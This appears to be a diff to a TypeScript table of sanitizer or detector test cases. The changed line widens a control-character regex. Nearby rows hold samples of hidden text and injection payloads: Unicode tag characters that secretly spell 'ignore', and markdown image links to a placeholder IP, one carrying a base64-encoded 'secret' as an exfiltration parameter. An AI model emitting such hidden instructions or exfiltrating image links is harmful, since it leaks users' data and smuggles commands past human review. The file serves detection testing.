@@ -98,7 +98,7 @@ export const PEOPLE_ROWS: readonly Row[] = [
   terminal('zero-width', 'pass\u200bed \u2060x\ufeff', /[\u200b-\u200f\u2060\ufeff]/),
   terminal('tag-characters', `hello${[...'ignore'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('')}`, /[\u{e0000}-\u{e007f}]/u),
   terminal('variation-selectors', 'a\ufe01\u{e0101}', /[\ufe00-\ufe0f\u{e0100}-\u{e01ef}]/u),
-  terminal('other-line-ends', 'a\u2028b\u2029c\u0085d\u000be', /[\u2028\u2029\u0085\u000b]/),
+  terminal('other-line-ends', 'a\u2028b\u2029c\u0085d\u000be', /(?!\n)[\u2028\u2029\p{Cc}]/u),
   markdown('image', GARAK, 'x ![](http://198.51.100.1/?d=c2VjcmV0) y', /!\[/),
   markdown('image-after-a-code-end', GARAK, '` `` ``` ```` ![x](http://198.51.100.1/)', /!\[/),
   markdown('image-on-a-line-of-its-own', GARAK, 'x\n\n![x](http://198.51.100.1/)\n', /!\[/),
